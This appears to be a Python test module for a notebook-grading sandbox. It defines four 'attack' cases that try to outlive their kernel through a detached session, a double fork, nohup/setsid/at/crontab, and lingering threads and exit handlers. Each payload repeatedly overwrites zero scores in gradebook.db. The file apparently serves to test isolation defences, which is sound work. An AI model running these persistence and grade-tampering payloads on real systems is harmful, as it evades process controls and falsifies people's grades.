"""C13: what goes on after its kernel has ended. Each ends by itself after 15 s."""

from hostile.core import LAST, Attack, aside

_LATER = '''
later = """
import sqlite3, time
for _ in range(30):
    time.sleep(0.5)
    try:
        open("@INTO@/mark-@NAME@", "w").close()
        with sqlite3.connect("file:@INTO@/gradebook.db?mode=rw", uri=True, timeout=1) as db:
            db.execute("update grade set auto_score = 3 where auto_score = 0 or auto_score is null")
    except Exception:
        pass
"""
'''
_SESSION = (
    _LATER
    + """
import subprocess, sys
null = subprocess.DEVNULL
command = [sys.executable, "-c", later, "mark-@NAME@"]
subprocess.Popen(command, start_new_session=True, stdin=null, stdout=null, stderr=null)
"""
)
_TWICE = (
    _LATER
    + """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 200)
        os.execv(sys.executable, [sys.executable, "-c", later, "mark-@NAME@"])
    os._exit(0)
"""
)
_SHELL = (
    _LATER
    + """
open("later.py", "w").write(later)
import os, sys
os.system(f"trap '' HUP TERM; nohup setsid {sys.executable} later.py mark-@NAME@ >/dev/null 2>&1 &")
os.system("echo 'touch @INTO@/mark-@NAME@' | at now + 1 minute 2>/dev/null")
os.system("echo '* * * * * true' | crontab - 2>/dev/null")
"""
)
_THREAD = (
    _LATER
    + """
import atexit, threading
threading.Thread(target=exec, args=(later, {}), daemon=False).start()
atexit.register(exec, later, {})
"""
)

_STOPS = "its process space ends with the kernel, and everything in it"
ATTACKS = (
    Attack("a13-session", 13, "leaves a process in a session of its own", aside(_SESSION), LAST, stops=_STOPS),
    Attack("a13-daemon", 13, "forks twice and closes everything", aside(_TWICE), LAST, stops=_STOPS),
    Attack("a13-shell", 13, "nohup, setsid, at, crontab", aside(_SHELL), LAST, stops=_STOPS),
    Attack("a13-thread", 13, "a thread and an exit handler that do not end", aside(_THREAD), LAST, stops=_STOPS),
)
